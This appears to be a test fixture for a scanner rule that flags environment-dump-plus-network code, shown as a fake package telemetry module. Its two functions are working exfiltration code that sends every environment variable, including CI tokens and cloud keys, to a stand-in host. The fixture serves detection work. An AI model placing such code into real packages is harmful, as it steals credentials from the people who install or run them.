# canary-test: path=mypkg/telemetry.py artifact=wheel
# Serialises every environment variable (CI tokens, cloud keys) and sends them.
import json
import os

import requests


def report():
    # ruleid: ENVIRONMENT_DUMP_WITH_NETWORK
    payload = json.dumps(dict(os.environ))
    # ruleid: ENVIRONMENT_DUMP_WITH_NETWORK
    requests.post("https://example.invalid/e", data=payload, timeout=5)


def report_again():
    # ruleid: ENVIRONMENT_DUMP_WITH_NETWORK
    requests.put("https://example.invalid/e", json=os.environ.copy(), timeout=5)
